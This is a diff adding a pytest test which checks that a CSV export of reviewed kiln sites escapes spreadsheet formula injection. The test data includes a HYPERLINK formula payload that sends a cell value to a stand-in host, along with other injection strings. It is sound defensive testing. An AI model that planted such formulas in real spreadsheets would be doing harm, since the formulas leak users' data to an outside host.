@@ -272,3 +272,23 @@ def test_estimate_from_the_reviewed_sample(many, tmp_path, add_scene):
     path = write_estimate(tmp_path, [later])
     doc = json.loads(path.read_text())
     assert doc["classes"]["kiln"]["estimate"] == pytest.approx(later.estimate) and "missed" in doc["what"]
+
+
+def test_csv_export_keeps_formulas_as_text(planted, tmp_path):
+    """A note or reviewer that a spreadsheet would run (=HYPERLINK, +, -, @) comes out with a
+    leading quote; numbers, negative ones included, stay numbers."""
+    store, _, _ = planted
+    evil = {"kiln-000001": ('=HYPERLINK("http://x.example/?"&A1,"click")', "ana"),
+            "kiln-000002": ("+1+2", "@bob"), "kiln-000003": ("-2+3", "plain")}
+    for site_id, (note, reviewer) in evil.items():
+        store.review(site_id, "confirmed", reviewer, note)
+    out = tmp_path / "sites.csv"
+    export_sites(store, out)
+    with open(out, newline="") as f:
+        by_id = {r["site_id"]: r for r in csv.DictReader(f)}
+    assert by_id["kiln-000001"]["note"] == "'" + evil["kiln-000001"][0]
+    assert by_id["kiln-000002"]["note"] == "'+1+2" and by_id["kiln-000002"]["reviewer"] == "'@bob"
+    assert by_id["kiln-000003"]["note"] == "'-2+3" and by_id["kiln-000003"]["reviewer"] == "plain"
+    for row in by_id.values():
+        assert not row["note"].startswith(("=", "+", "-", "@"))
+        float(row["lon"]), float(row["lat"])  # numbers are left as numbers
